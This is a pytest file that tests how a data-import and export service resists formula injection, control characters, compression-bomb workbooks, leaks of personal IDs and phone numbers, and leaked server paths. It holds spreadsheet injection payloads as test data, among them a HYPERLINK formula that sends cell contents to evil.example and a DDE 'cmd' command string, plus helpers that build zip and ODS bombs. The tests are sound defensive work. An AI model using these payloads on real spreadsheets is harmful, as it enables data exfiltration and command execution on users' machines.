"""Data in and out, attacked (issue 12): formulas and control characters in exports and reports, workbooks
that expand to gigabytes, values that slip past validation, dates that do not exist, server paths and
token ids in job output. No database: the integration twin is tests/integration/test_hardening_data.py."""
import csv
import io
import json

import openpyxl
import pytest
from pydantic import ValidationError

from app.api.schemas import DeclineIn, PartnershipUpdateIn
from etl import formats
from etl.limits import MIB, ReadLimits
from etl.readers import ReadError, read_file
from etl.report import write_report
from etl.transform import transform
from etl.validate import ERROR, WARNING, Problem, validate
from services.exports import xlsx_bytes
from services import jobs
from services.principal import Principal
from services.runs import present_job
from tests.support import bureau_files as bf
from tests.support import hostile_files as hostile

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)"]
ID_NUMBER = bf.id_number("43312319730318001")
MOBILE = "13912345678"


# --- 1. formula injection -------------------------------------------------------------------------

def _read_back(content: bytes):
    return list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))


def test_xlsx_export_writes_formula_like_text_as_text():
    columns = [("text", "文本"), ("items", "列表")]
    content = xlsx_bytes("表", columns, [{"text": text, "items": [text, "猕猴桃"]} for text in FORMULAS])
    for text, (cell, listed) in zip(FORMULAS, _read_back(content)):
        assert cell.data_type == "s" and listed.data_type == "s", f"{text!r} became a formula"
        assert cell.value == text.replace("\r", "\n"), "the text itself is kept (XML reads CR as LF)"
        assert cell.quotePrefix and listed.quotePrefix, "Excel shows it as text and keeps it text when edited"


def test_xlsx_export_keeps_numbers_numbers():
    content = xlsx_bytes("表", [("n", "数")], [{"n": -3}, {"n": -2.5}, {"n": 3600}, {"n": None}, {"n": True}])
    cells = [row[0] for row in _read_back(content)]
    assert [(cell.value, cell.data_type) for cell in cells[:3]] == [(-3, "n"), (-2.5, "n"), (3600, "n")]
    assert cells[3].value is None and cells[4].value == "是"


def test_report_csv_escapes_formula_like_values_but_not_numbers(tmp_path):
    problems = [Problem(FORMULAS[0] + ".csv", "@表", 3, "+列", text, ERROR, "-原因") for text in FORMULAS]
    problems += [Problem("a.csv", None, 4, "家庭人口数", "-5", ERROR, "不能小于 1 / must be at least 1"),
                 Problem("a.csv", None, 5, "年增收（元）", "-1.5", ERROR, "不能小于 0 / must be at least 0")]
    with open(write_report(problems, tmp_path / "report.csv"), encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    for row, text in zip(rows, FORMULAS):
        assert row[0] == "'" + FORMULAS[0] + ".csv" and row[1] == "'@表" and row[3] == "'+列" and row[6] == "'-原因"
        assert row[4] == "'" + text, "a leading quote makes Excel show the value as text"
    assert [row[4] for row in rows[-2:]] == ["-5", "-1.5"], "a negative number is a number, not a formula"


# --- 2. control characters -----------------------------------------------------------------------

def test_xlsx_export_drops_characters_xml_cannot_hold():
    stored = "帮扶\u0007措施\u0000\u001b[31m\ufffe"
    content = xlsx_bytes("表", [("note", "帮扶措施")], [{"note": stored}, {"note": "第一行\n第二行\t完"}])
    cells = [row[0].value for row in _read_back(content)]
    assert cells == ["帮扶措施[31m", "第一行\n第二行\t完"]


@pytest.mark.parametrize("text", ["a\u0007b", "\u0000", "x\u001by", "\u007f", "\u0085", "\ud800", "\ufffe"])
def test_notes_and_reasons_with_control_characters_are_refused(text):
    with pytest.raises(ValidationError):
        PartnershipUpdateIn(note=text)
    with pytest.raises(ValidationError):
        DeclineIn(reason=text)


def test_notes_and_reasons_keep_ordinary_text():
    assert PartnershipUpdateIn(note="第一行\n第二行\t完").note == "第一行\n第二行\t完"
    assert DeclineIn(reason="=距离太远").reason == "=距离太远", "kept as written; outputs neutralise formulas"


# --- 3. workbooks that expand -------------------------------------------------------------------

def test_a_compression_bomb_is_refused_before_it_is_read(tmp_path):
    bomb = hostile.xlsx_size_bomb(tmp_path / "贫困户.xlsx", 20)
    assert bomb.stat().st_size < 200_000
    with pytest.raises(ReadError, match="压缩比"):
        read_file(bomb)


def test_the_uncompressed_size_is_capped(tmp_path):
    bomb = hostile.xlsx_size_bomb(tmp_path / "贫困户.xlsx", 3)
    with pytest.raises(ReadError, match="解压后过大"):
        read_file(bomb, limits=ReadLimits(max_uncompressed_bytes=2 * MIB, max_compression_ratio=10_000))


@pytest.mark.parametrize("build", [hostile.xlsx_sparse_bomb, hostile.xlsx_implicit_wide_bomb],
                         ids=["far-apart cells", "cells without references"])
def test_a_sheet_spanning_billions_of_cells_is_refused(tmp_path, build):
    # Read as it was, either file makes the reader allocate terabytes (the process aborts).
    with pytest.raises(ReadError, match="区域过大"):
        read_file(build(tmp_path / "贫困户.xlsx"))


def test_an_ods_cell_repeated_millions_of_times_is_refused(tmp_path):
    bomb = hostile.ods_repeat_bomb(tmp_path / "贫困户.ods", rows=20_000, columns=1_000)
    assert bomb.stat().st_size < 2_000
    with pytest.raises(ReadError, match="工作表过大"):
        read_file(bomb)


def test_an_old_xls_file_is_capped_by_its_size(tmp_path):
    path = bf.write_table(tmp_path / "贫困户.xls", bf.HOUSEHOLD_HEADER, [bf.household_row(n) for n in range(1, 50)])
    with pytest.raises(ReadError, match="文件过大"):
        read_file(path, limits=ReadLimits(max_uncompressed_bytes=1024))
    assert len(read_file(path)[0].frame) == 49


def test_ordinary_workbooks_still_read(tmp_path):
    xlsx = bf.write_table(tmp_path / "贫困户.xlsx", bf.HOUSEHOLD_HEADER, [bf.household_row(n) for n in range(1, 4)])
    assert len(read_file(xlsx, limits=ReadLimits(max_uncompressed_bytes=MIB))[0].frame) == 3
    # LibreOffice pads every sheet with empty cells and rows repeated to its edge: that is no bomb.
    [table] = read_file(hostile.ods_padded_to_the_edge(tmp_path / "padded.ods"))
    assert table.kind.name == "households" and len(table.frame) == 1


def test_a_broken_or_lying_zip_is_reported_as_unreadable(tmp_path):
    lying = hostile.lying_size_bomb(tmp_path / "贫困户.xlsx", 5)
    with pytest.raises(ReadError, match="文件已损坏"):
        read_file(lying)
    fake = tmp_path / "fake.xlsx"
    fake.write_bytes(b"not a zip at all")
    with pytest.raises(ReadError, match="文件已损坏"):
        read_file(fake)


# --- 4. validation gaps ---------------------------------------------------------------------------

def _validate(tmp_path, header, rows):
    [table] = read_file(bf.write_table(tmp_path / "t.csv", header, rows))
    rejected, problems = validate(table, "t.csv")
    return table, list(rejected), problems


def test_range_checks_apply_to_every_cell_whatever_the_other_cells_hold(tmp_path):
    rows = [bf.household_row(n) for n in range(1, 5)]
    rows[0][10] = "三"                        # not a number: its own error
    rows[1][10] = ID_NUMBER                   # an ID number typed as a household size
    rows[2][12] = "两亩"                      # not a number (耕地面积)
    rows[3][12] = "99999999"                  # out of range, in the same column
    _, rejected, problems = _validate(tmp_path, bf.HOUSEHOLD_HEADER, rows)
    assert rejected == [2, 3, 4, 5]
    reasons = {(problem.row, problem.column): problem.reason for problem in problems}
    assert "不能大于 30" in reasons[(3, "家庭人口数")] and "不能大于 100000" in reasons[(5, "耕地面积（亩）")]


def test_id_and_phone_numbers_are_never_echoed_in_the_report(tmp_path):
    rows = [bf.household_row(n) for n in range(1, 4)]
    rows[0][10] = ID_NUMBER                   # numeric column
    rows[1][5] = ID_NUMBER                    # text column: 行政村
    rows[2][7] = f"电话{MOBILE}"             # code column: not a valid 贫困户属性
    _, rejected, problems = _validate(tmp_path, bf.HOUSEHOLD_HEADER, rows)
    assert rejected == [2, 3, 4]
    shown = repr(problems)
    assert ID_NUMBER not in shown and MOBILE not in shown
    assert "4331************" in shown and "139****5678" in shown, "masked like the personal columns"
    assert any(problem.row == 3 and "身份证" in problem.reason for problem in problems)


def test_an_id_number_in_a_credit_code_column_is_refused(tmp_path):
    rows = [bf.enterprise_row(1), bf.enterprise_row(2, code=ID_NUMBER)]
    _, rejected, problems = _validate(tmp_path, bf.ENTERPRISE_HEADER, rows)
    assert rejected == [3] and ID_NUMBER not in repr(problems)


def test_a_mobile_number_in_a_note_is_stored_masked_with_a_warning(tmp_path):
    header = bf.PARTNERSHIP_HEADER + ["帮扶措施"]
    row = bf.partnership_row("LJ1", 1, bf.credit_code("91433123MA4L00001")) + [f"联系人手机{MOBILE}，每月回访"]
    table, rejected, problems = _validate(tmp_path, header, [row])
    assert rejected == [] and [problem.severity for problem in problems] == [WARNING]
    stored = transform(formats.PARTNERSHIPS, table.frame, b"key")
    assert stored["note"].tolist() == ["联系人手机139****5678,每月回访"]  # NFKC: the full-width comma too


def test_personal_columns_keep_their_phone_numbers(tmp_path):
    table, rejected, problems = _validate(tmp_path, bf.HOUSEHOLD_HEADER, [bf.household_row(1)])
    assert rejected == [] and problems == []
    assert transform(formats.HOUSEHOLDS, table.frame, b"key")["phone"].tolist() == ["13800001234"]


# --- 5. dates, server paths, token ids ------------------------------------------------------------

@pytest.mark.parametrize("day", ["2024-13-45", "2023-02-29", "2024-00-10", "2024-04-31", "0000-01-01"])
def test_end_dates_must_exist(day):
    with pytest.raises(ValidationError):
        PartnershipUpdateIn(end_date=day)


def test_real_end_dates_are_accepted():
    assert PartnershipUpdateIn(end_date="2024-02-29").end_date == "2024-02-29"


def test_job_output_carries_no_server_path():
    job = {"job_id": "upload-1", "kind": "upload", "status": "failed",
           "error": "FileNotFoundError: [Errno 2] No such file or directory: '/work/main/var/uploads/upload-1/upload.csv'",
           "message": "任务进程异常退出 / job process exited with 1: File \"/work/main/jobs/child.py\", line 3",
           "result": json.dumps({"report": "/work/main/var/uploads/upload-1/report.csv", "files": [
               {"file": "贫困户.csv", "error": "文件不存在 / file not found: /srv/lianjie/var/uploads/x/upload.csv"}]})}
    shown = present_job(job)
    text = json.dumps(shown, ensure_ascii=False)
    assert "/work/" not in text and "/srv/" not in text and "report" not in shown["result"]
    assert "upload.csv" in shown["error"] and shown["result"]["files"][0]["file"] == "贫困户.csv"
    assert present_job({**job, "message": "户 12/100，评分/分配"})["message"] == "户 12/100，评分/分配"


def test_jobs_name_their_requester_without_the_token_id():
    bureau = Principal("tok_0123456789ab", "凤凰县商务局", "bureau", county_code="433123000000")
    assert jobs.requester(bureau) == "凤凰县商务局（商务局）"
    job = jobs.new_job("match", "433123000000", jobs.requester(bureau), {}, actor=bureau.actor)
    assert job["requested_by"] == "凤凰县商务局（商务局）" and job["requested_by_actor"] == "bureau:tok_0123456789ab"
    shown = present_job({**job, "status": "queued"})
    assert "tok_" not in json.dumps(shown, ensure_ascii=False)
    legacy = present_job({**job, "status": "queued", "requested_by": "admin:tok_0123456789ab"})
    assert legacy["requested_by"] == "管理员", "jobs stored before the change show the role only"


def test_problems_mask_identity_numbers_wherever_they_are_built():
    problem = Problem("t.csv", None, 2, "户编号", f"{ID_NUMBER}/{MOBILE}", ERROR, "…")
    assert ID_NUMBER not in problem.value and MOBILE not in problem.value
    assert Problem("t.csv", None, 2, "户编号", "", ERROR, "…").value == ""


def test_the_limits_follow_the_settings():
    from tests.support.apps import offline_settings

    assert ReadLimits.from_settings(offline_settings()) == ReadLimits()
    configured = offline_settings().model_copy(update={"max_uncompressed_mb": 2, "max_compression_ratio": 20})
    assert ReadLimits.from_settings(configured) == ReadLimits(2 * MIB, 20)


def test_an_uploaded_file_keeps_only_its_own_name_for_display():
    from services.uploads import display_name

    assert display_name("C:\\Users\\王五\\Desktop\\贫困户.xlsx") == "贫困户.xlsx"
    assert display_name("../../etc/贫困户.csv") == "贫困户.csv"
    assert display_name("贫困\u0007户\u0000.csv") == "贫困户.csv" and display_name(None) == "upload"


def test_a_report_written_elsewhere_is_escaped_before_it_is_served(tmp_path):
    from etl.report import make_safe

    report = tmp_path / "report.csv"
    # What the upload job left before: the user's file name put into the written report as raw text.
    report.write_text("文件 file,值 value\n=HYPERLINK(evil.example)+贫困户.csv,-5\n", encoding="utf-8-sig")
    assert make_safe(report) and not make_safe(report), "escaped once, then left alone"
    assert report.read_text(encoding="utf-8-sig").splitlines()[1] == "'=HYPERLINK(evil.example)+贫困户.csv,-5"


EMBEDDED_TEXTS = [
    "110101199003071234", "联系人身份证110101199003071234，电话", "X110101199003071234Y", "1101011990030712345",
    "2110101199003071234", "11010119900307123X", "11010119900307123x。", "110101189003071234",
    "110101199013071234", "13800001234", "电话13800001234转", "138000012345", "213800001234", "12800001234",
    "tel:13800001234", "", "猕猴桃", "a13800001234b", "00110101200002291234",
]


def test_the_column_checks_find_exactly_the_id_and_mobile_numbers_the_masking_patterns_find():
    # The checks run Arrow's RE2 (no look-around); masking runs Python's patterns: they must agree.
    import pandas as pd

    from etl import values

    texts = pd.Series(EMBEDDED_TEXTS, dtype="string")
    assert values.has_id_number(texts).tolist() == [bool(values.EMBEDDED_ID_NUMBER.search(t)) for t in EMBEDDED_TEXTS]
    assert values.has_mobile(texts).tolist() == [bool(values.EMBEDDED_MOBILE.search(t)) for t in EMBEDDED_TEXTS]
    assert values.has_id_number(texts).any() and values.has_mobile(texts).any()
